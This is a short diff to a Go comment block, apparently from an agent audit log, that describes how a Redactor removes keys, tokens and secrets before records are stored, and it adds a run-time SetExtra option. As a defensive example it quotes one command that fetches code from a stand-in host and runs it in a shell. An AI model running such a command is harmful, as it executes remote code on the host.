@@ -38,7 +38,8 @@
 //     aggregates refusals an agent can repeat at will.
 //   - Secrets are removed before a record is hashed or written: the Redactor
 //     replaces provider keys, bearer tokens, values of secret-named keys and
-//     caller-supplied exact secrets with "[REDACTED]". The secret never
+//     caller-supplied exact secrets (fixed at NewRedactor, or replaced at
+//     run time with SetExtra) with "[REDACTED]". The secret never
 //     reaches the database file. A redacted span never contains shell syntax
 //     ($( ` ; | & < > quotes, line breaks), so a command cannot hide behind a
 //     secret's name ("password=$(curl evil | sh)" is stored as written).
